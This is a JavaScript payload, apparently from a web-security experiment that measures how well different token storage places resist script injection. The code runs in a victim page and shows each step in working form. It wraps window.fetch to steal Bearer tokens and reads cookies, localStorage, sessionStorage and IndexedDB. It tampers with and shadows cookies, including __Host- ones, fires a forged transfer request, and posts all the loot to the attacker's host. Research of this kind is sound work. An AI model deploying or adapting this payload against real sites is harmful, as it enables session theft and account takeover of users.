// The attacker's script, as it runs in the victim's page: reads what it can, uses the rest, and carries its loot home.
(() => {
  const [, attacker, run] = /^(.*)\/(\w+)\/payload\.js$/.exec(document.currentScript.src);
  const name = `sp-${run.slice(0, 8)}-`;
  const home = `/${run}/own`;
  const ask = window.fetch;

  // A token in a variable is out of reach, but not on its way out.
  const caught = new Promise((resolve) => {
    window.fetch = (input, init) => {
      const sent = new Headers(init?.headers).get("Authorization");
      if (sent) resolve(sent.replace("Bearer ", ""));
      return ask(input, init);
    };
    setTimeout(() => resolve(""), 10_000);
  });

  const indexed = () =>
    new Promise((resolve) => {
      const asked = indexedDB.open(name);
      asked.onerror = () => resolve("");
      asked.onsuccess = () => {
        const got = asked.result.transaction("tokens").objectStore("tokens").get("token");
        got.onsuccess = () => { asked.result.close(); resolve(got.result ?? ""); };
        got.onerror = () => resolve("");
      };
    });

  async function spoil(line, undo, label = "session", prefix = "") {
    document.cookie = `${prefix}${name}${label}=${line}`;
    const seen = await (await ask(`${home}/cookies`)).json();
    if (undo) document.cookie = `${prefix}${name}${label}=; Max-Age=0; ${undo}`;
    return seen[prefix + label] ?? [];
  }

  addEventListener("load", async () => {
    const loot = {
      cookies: document.cookie,
      local: localStorage.getItem(name) ?? "",
      session: sessionStorage.getItem(name) ?? "",
      indexed: await indexed(),
      memory: await caught,
      after_overwriting: await spoil("planted; Path=/"),
      after_removing: await spoil("; Path=/; Max-Age=0"),
      after_shadowing: await spoil(`planted; Path=${home}`, `Path=${home}`),
      after_shadowing_prefixed: await spoil(`planted; Secure; Path=${home}`, "", "fixed", "__Host-"),
      rode: (await ask(`${home}/transfer`, { method: "POST" })).status,
    };
    await ask(`${attacker}/${run}/loot`, { method: "POST", mode: "no-cors", body: JSON.stringify(loot) });
    location.replace(`/${run}/search/end`);
  });
})();
